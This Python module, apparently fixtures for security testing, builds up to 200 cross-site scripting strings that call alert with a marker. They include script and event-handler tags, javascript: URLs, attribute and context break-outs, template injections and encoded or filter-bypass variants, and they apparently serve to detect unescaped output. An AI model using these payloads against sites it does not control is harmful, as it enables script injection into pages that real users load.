"""Strings that run a script on a page which writes them down without care. Each calls `alert`."""

from __future__ import annotations

from itertools import product

MANY = 200
LONGEST = 128
"""Of a name; longer ones would be refused before a page sees them."""

_CALLS = ("alert({})", "alert`{}`", "top['alert']({})")

_ELEMENTS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script >{}</script >",
    "<script/x>{}</script>",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x>",
    "<img src=x onerror={}>",
    "<img/src=x/onerror={}>",
    "<img src=x\tonerror={}>",
    "<image src=x onerror={}>",
    "<body onload={}>",
    "<iframe onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<iframe src='javascript:{}'>",
    "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>",
    "<details open ontoggle={}>x",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>x</marquee>",
    "<style onload={}></style>",
    "<link rel=stylesheet href=x onerror={}>",
    "<form><button formaction='javascript:{}'>x",
    "<a href='javascript:{}'>x</a>",
    "<a href='java\tscript:{}'>x</a>",
    "<base href='javascript:{}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<math><a xlink:href='javascript:{}'>x</a></math>",
    "<div hx-get=x hx-on::load='{}'>x</div>",
    "<div hx-vals='js:{{x:{}}}' hx-trigger=load hx-get=/>",
    "<template><script>{}</script></template>",
    "<xss onpointerenter={}>x</xss>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[><script>{}</script>]]>",
    "<%2fscript><script>{}</script>",
)
_BREAKS = (
    "'><script>{}</script>",
    '"><script>{}</script>',
    "'onmouseover='{}",
    '" autofocus onfocus="{}',
    "`><img src=x onerror={}>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "</svg><script>{}</script>",
    "</td></table><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "';{};//",
    '";{};//',
    "\\';{};//",
    "</pre><script>{}</script>",
    "</option></select><script>{}</script>",
    "\u2028{}//",
    "${{{}}}",
    "{{{{{}}}}}",
    "{{{{constructor.constructor('{}')()}}}}",
    "#{{{}}}",
    "<%={}%>",
    "{{%{}%}}",
)
_ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\u0000script:{}",
    " javascript:{}",
    "javascript&colon;{}",
    "javascript://%0a{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "//x/?<script>{}</script>",
    "#<script>{}</script>",
)
_ENCODED = (
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{}\\x3c/script\\x3e",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
)


FORMS = (*_ELEMENTS, *_BREAKS, *_ADDRESSES, *_ENCODED)
BROKEN_OUT = (*_BREAKS, *_ADDRESSES)
"""Those for places where an element alone would be text: attributes, titles, scripts."""


def strings(mark: int, longest: int = LONGEST) -> list[str]:
    """MANY different ones that call `alert` with `mark`, none with characters that names may not hold."""
    made = [form.format(call.format(mark)) for call, form in product(_CALLS, FORMS)]
    plain = dict.fromkeys(s for s in made if s.isprintable() and s.strip() == s and len(s) <= longest)
    return list(plain)[:MANY]
